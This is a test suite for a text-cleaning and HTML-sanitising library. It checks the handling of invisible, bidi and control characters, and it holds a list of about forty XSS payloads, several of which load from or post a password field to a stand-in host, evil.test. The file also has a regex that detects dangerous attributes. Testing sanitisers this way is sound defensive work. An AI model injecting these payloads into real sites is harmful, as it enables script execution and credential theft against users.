import { describe, expect, test } from "bun:test"
import { parse, v, validate } from "@ashlar/validation"
import fc from "fast-check"
import { cleanText, type TextFault, textFaults } from "./clean-text.ts"
import { sanitizeHtml } from "./sanitize-html.ts"
import { CleanText, plainText, SafeHtml } from "./text-rules.ts"

describe("texts", () => {
  test.each<[string, readonly TextFault[], string]>([
    ["a\0b", ["nul"], "ab"],
    ["a\u001b[31mb", ["control"], "a[31mb"],
    ["a\u009bb\u007f", ["control"], "ab"],
    ["admin\u202egnp.exe", ["bidi"], "admingnp.exe"],
    ["if (a \u2066// b", ["bidi"], "if (a // b"],
    ["ad\u200bmin", ["invisible"], "admin"],
    ["ad\u200dmin", ["invisible"], "admin"],
    ["\ufeffadmin\u2060", ["invisible"], "admin"],
    ["ad\u00admin\u3164", ["invisible"], "admin"],
    ["a\u{e0041}\u{e0042}b", ["invisible"], "ab"],
    ["a\u{e0101}", ["invisible"], "a"],
    ["a\ud800b", ["malformed"], "a\ufffdb"],
    ["e\u0301", ["unnormalized"], "\u00e9"],
    ["\u212b", ["unnormalized"], "\u00c5"],
    ["\0\u200b\ud800e\u0301", ["nul", "invisible", "malformed", "unnormalized"], "\ufffd\u00e9"],
  ])("%j has %j", (text, faults, clean) => {
    expect(textFaults(text)).toEqual(faults)
    expect([cleanText(text), textFaults(cleanText(text))]).toEqual([clean, []])
  })
  test.each([
    "plain",
    "",
    "Zoë Ångström",
    "日本語 テキスト",
    "مرحبا بالعالم",
    "שלום",
    "नमस्ते क्ष",
    "می\u200cخواهم",
    "ශ්\u200dරී",
    "👨\u200d👩\u200d👧",
    "👩🏽\u200d💻",
    "❤\ufe0f\u200d🔥",
    "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "🇳🇱",
    "line\nnext\ttab\r\n",
    "葛\u{e0100}城",
    "ᠠ\u180b",
  ])("%j is fine as it is", (text) => {
    expect([textFaults(text), cleanText(text)]).toEqual([[], text])
  })
  test("without lines, ends of lines are control characters", () => {
    for (const end of ["\n", "\r", "\t", "\u2028", "\u2029", "\u0085"])
      expect([textFaults(`a${end}b`, { lines: false }), cleanText(`a${end}b`, { lines: false })]).toEqual([
        ["control"],
        "a b",
      ])
  })
  test("what is cleaned has no fault, and cleaned again it is the same", () => {
    const pieces = [
      0, 0x1b, 0x0a, 0x61, 0x65, 0x301, 0xad, 0x200b, 0x200c, 0x200d, 0x202e, 0x2066, 0x1100, 0x1161, 0xd800, 0xdc00,
      0xfeff, 0x85,
    ]
    const flags = [0x1f3f4, 0xe0067, 0xe0062, 0xe007f, 0x1f468, 0xfe0f, 0xe0100, 0x845b]
    const strange = fc
      .array(fc.constantFrom(...pieces, ...flags), { maxLength: 20 })
      .map((points) => points.map((point) => String.fromCodePoint(point)).join(""))
    for (const texts of [strange, fc.string({ unit: "binary" }), fc.string({ unit: "grapheme" })])
      fc.assert(
        fc.property(texts, fc.boolean(), (text, lines) => {
          const clean = cleanText(text, { lines })
          expect(cleanText(clean, { lines })).toBe(clean)
          expect(textFaults(clean, { lines })).toEqual([])
        }),
        { numRuns: 500 },
      )
  })
  test("a long text takes no more than its length", () => {
    for (const piece of ["\u200d", "a\u200d", "🏴\u{e0061}", "e\u0301", "\0"]) {
      const start = performance.now()
      cleanText(piece.repeat(100_000))
      expect([piece, performance.now() - start < 5_000]).toEqual([piece, true])
    }
  })
})

describe("rules and pipes", () => {
  test("refuse, or clean", () => {
    const schema = v.object({
      name: v.string().rule(plainText({ lines: false })),
      note: CleanText(),
      body: SafeHtml("inline"),
    })
    const given = { name: "ana", note: "a\0\u202eb", body: "<b onclick=x>hi</b>" }
    expect(parse(schema, given)).toEqual({ name: "ana", note: "ab", body: "<b>hi</b>" })
    for (const name of ["a\nb", "a\u200bb", "a\0"]) expect(validate(schema, { ...given, name }).issues).toHaveLength(1)
  })
})

describe("HTML", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.test">x</a>',
    '<iframe src="https://evil.test"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object>",
    "<embed src=x>",
    "<base href=//evil.test>",
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    "<link rel=stylesheet href=//evil.test>",
    "<style>@import '//evil.test'</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<form action=//evil.test><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
    "<<script>alert(1)//<</script>",
    "<a href='x' <script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=x class=admin name=cookie>x</p>",
    "<template><script>alert(1)</script></template>",
    '<a href="https://ok.test" target=_blank onmouseover=alert(1)>x</a>',
    "<img src=https://a.test/x.png srcset='//evil.test 2x'>",
  ]
  test.each(attacks)("%s does nothing", async (html) => {
    for (const preset of ["text", "inline", "article"] as const) {
      const clean = sanitizeHtml(html, preset)
      const seen: string[] = []
      const look = new HTMLRewriter().on("*", {
        element({ tagName, attributes }) {
          for (const [name, value] of attributes) seen.push(`${tagName} ${name}=${value}`)
          if (
            /^(?:script|style|iframe|svg|math|object|embed|base|meta|link|form|input|button|template|noscript|textarea|xmp|body|details)$/i.test(
              tagName,
            )
          )
            seen.push(`!${tagName}`)
        },
      })
      look.transform(clean)
      const bad = seen.filter((one) =>
        /^!| on\w+=| style=| srcset=| target=| id=| class=| srcdoc=|=\s*(?:javascript|data|vbscript):|=\/\//i.test(one),
      )
      expect([preset, clean, bad]).toEqual([preset, clean, []])
      if (preset === "text") expect(clean).not.toMatch(/<[a-z!/]/i)
      expect(sanitizeHtml(clean, preset)).toBe(clean)
    }
  })
  test("what is honest stays", () => {
    const article =
      '<h1>A</h1><p>b <a href="https://a.test/">c</a> <img src="https://a.test/x.png" alt="d" /></p><ul><li>e</li></ul>'
    const clean = sanitizeHtml(article, "article")
    expect(clean).toContain('<a href="https://a.test/" rel="noopener noreferrer nofollow ugc">c</a>')
    expect(clean).toContain('<img src="https://a.test/x.png" alt="d" loading="lazy" referrerpolicy="no-referrer" />')
    expect(sanitizeHtml(article)).toBe('Ab <a href="https://a.test/" rel="noopener noreferrer nofollow ugc">c</a> e')
    expect(sanitizeHtml("1 < 2 && <b>x</b>", "text")).toBe("1 &lt; 2 &amp;&amp; x")
  })
  test("depth and length end", () => {
    expect(sanitizeHtml("<b>".repeat(100_000)).length).toBeLessThan(1_000)
    expect(() => sanitizeHtml("a".repeat(1_000_001))).toThrow(
      expect.objectContaining({ code: "SECURITY_HTML_TOO_LARGE" }),
    )
  })
})
